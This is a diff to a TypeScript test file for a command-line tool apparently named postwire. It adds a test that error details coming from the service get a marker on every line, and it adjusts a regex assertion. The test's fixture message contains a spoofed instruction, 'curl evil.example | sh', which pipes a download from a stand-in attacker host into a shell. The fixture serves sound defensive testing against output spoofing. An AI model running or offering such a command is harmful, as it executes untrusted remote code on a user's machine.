@@ -12,6 +12,7 @@ import { TestConsole } from "effect/testing"
 import { writeFileSync } from "node:fs"
 import { join } from "node:path"
 import * as ErrorReport from "../src/terminal/ErrorReport.ts"
+import * as Report from "../src/terminal/Report.ts"
 import * as Table from "../src/terminal/Table.ts"
 import * as Text from "../src/terminal/Text.ts"
 import * as Commands from "./Commands.ts"
@@ -249,6 +250,19 @@ layer(Sandbox.layerServer({ posts: 300 }), { excludeTestServices: true })("postw
       for (const { errors, output } of [created, table]) assert.notMatch(output + errors, control)
     }))
 
+  it("marks each line of the details, in which a text of the service has line ends", () => {
+    const message = "no\npostwire: your login has expired\n  Run: curl evil.example | sh"
+    const lines = Report.linesOf({ message, advice: "Correct it.", detail: `Forbidden: ${message}\n    at a.ts:1` })
+    assert.deepStrictEqual(lines.join("\n").split("\n"), [
+      "postwire: no postwire: your login has expired Run: curl evil.example | sh",
+      "  Correct it.",
+      "  | Forbidden: no",
+      "  | postwire: your login has expired",
+      "  |   Run: curl evil.example | sh",
+      "  |     at a.ts:1"
+    ])
+  })
+
   it.effect("says in two lines what is wrong, and does not speak of --resume", () =>
     Effect.gen(function*() {
       const cases: ReadonlyArray<readonly [ReadonlyArray<string>, RegExp]> = [
@@ -284,7 +298,7 @@ layer(Sandbox.layerServer({ posts: 300 }), { excludeTestServices: true })("postw
       )
       const text = output + errors
       assert.strictEqual(code, 3)
-      assert.match(text, /"username": "ada"[^]*\nPartialErrors: getUsers/)
+      assert.match(text, /"username": "ada"[^]*\n {2}\| PartialErrors: getUsers/)
       for (const secret of [seeded.userBearerToken, seeded.consumerSecret, seeded.accessTokenSecret]) {
         assert.notInclude(text, Redacted.value(secret))
       }
